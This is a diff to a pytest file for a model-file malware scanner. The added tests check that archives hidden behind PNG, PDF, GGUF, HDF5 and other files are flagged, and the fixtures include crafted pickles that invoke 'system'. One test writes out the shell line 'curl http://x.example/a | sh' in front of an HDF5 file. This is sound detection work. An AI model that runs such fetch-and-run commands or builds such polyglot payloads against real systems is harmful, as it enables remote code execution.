@@ -1,10 +1,12 @@
 """A file that is a harmless pickle to one loader and an archive to another is never clean."""
 
+import gzip
 import io
 import struct
 import tarfile
 import zipfile
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
@@ -13,7 +15,12 @@ from scanners.facts import Anomaly, Call, Unread
 from scanners.routing import scan_blob
 from scanners.source import BytesSource
 from tests.craft.archives import DEFLATED, Part, archive
+from tests.craft.packed import Packed, rar5, sevenzip
 from tests.craft.pickles import HARMLESS, asm, named, op, system
+from tests.craft.table import said
+from tests.craft.tensors import header, safetensors
+
+DATA = Path(__file__).parents[1] / "data"
 
 
 def tar(old):
@@ -113,3 +120,53 @@ def test_where_joblib_reads_arrays_nothing_is_clean():
     wrapper = asm(named("joblib.numpy_pickle", "NumpyArrayWrapper"), "EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", "BUILD")
     data = asm(op("PROTO", 4), wrapper, op("BINBYTES", bytes(64) + system(proto=2)), "STOP")
     assert outcome(data, "model.joblib")[1] == {"no-reader"}
+
+
+FRONTS = {
+    "png": (DATA / "media" / "a.png").read_bytes(),
+    "gif": (DATA / "media" / "a.gif").read_bytes(),
+    "mp4": (DATA / "media" / "a.mp4").read_bytes(),
+    "pdf": (DATA / "pdf" / "plain.pdf").read_bytes(),
+    "gguf": (DATA / "gguf" / "template.gguf").read_bytes(),
+    "safetensors": safetensors(header(("w", "F32", [4], 0, 16)), bytes(16)),
+    "hdf5": (DATA / "hdf5" / "several-v110.h5").read_bytes(),
+    "onnx": (DATA / "onnx" / "dense.onnx").read_bytes(),
+    "npy": (DATA / "corpus" / "numpy-1.23" / "masked.npy").read_bytes(),
+    "pickle": asm(op("PROTO", 4), "EMPTY_DICT", "STOP"),
+    "7z": sevenzip(("notes.txt", b"words\n")),
+    "rar": rar5(Packed("notes.txt", b"words\n")),
+    "gzip": gzip.compress(b"words\n" * 9, mtime=0),
+    "arrow": (DATA / "tables" / "plain.stream.arrow").read_bytes(),
+    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 2, 62) + bytes(100),
+    "text": b"words and more words\n",
+}
+
+
+@pytest.mark.parametrize("front", FRONTS)
+@pytest.mark.parametrize("name", ["model.bin", "model.safetensors", "notes"])
+def test_an_archive_behind_something_else_is_read_beside_it(front, name):
+    found = scan_blob(BytesSource(FRONTS[front] + archive(*MEMBERS)), name, Limits())
+    codes, _ = outcome(FRONTS[front] + archive(*MEMBERS), name)
+    assert "system" in {fact.name for fact in found.facts if isinstance(fact, Call)}
+    assert codes & {"file.polyglot", "zip.leading"}
+    verdict, findings = said(FRONTS[front] + archive(*MEMBERS), name)
+    assert verdict == "malicious"
+    assert {"file-polyglot", "zip-leading"} & {finding.rule for finding in findings}
+
+
+@pytest.mark.parametrize("front", sorted(FRONTS.keys() - {"text", "elf"}))
+def test_a_harmless_archive_behind_something_else_is_never_clean(front):
+    data = FRONTS[front] + archive(Part("notes.txt", b"words\n"))
+    assert said(data, "notes")[0] != "clean"
+
+
+@pytest.mark.parametrize("suffix", [".pt", ".bin", ".safetensors", ".gguf", ".onnx", ".png", ".json", ".md", ""])
+def test_a_tar_archive_whose_first_name_is_a_pickle_is_both_under_any_name(suffix):
+    assert "system" in called(tar(old=False), f"model{suffix}")
+
+
+def test_an_hdf5_file_behind_a_script_is_both():
+    script = b"#!/bin/sh\ncurl http://x.example/a | sh\n".ljust(512, b"\n")
+    verdict, findings = said(script + (DATA / "hdf5" / "several-v110.h5").read_bytes(), "model.h5")
+    assert verdict == "malicious"
+    assert "hdf5-user-block" in {finding.rule for finding in findings}
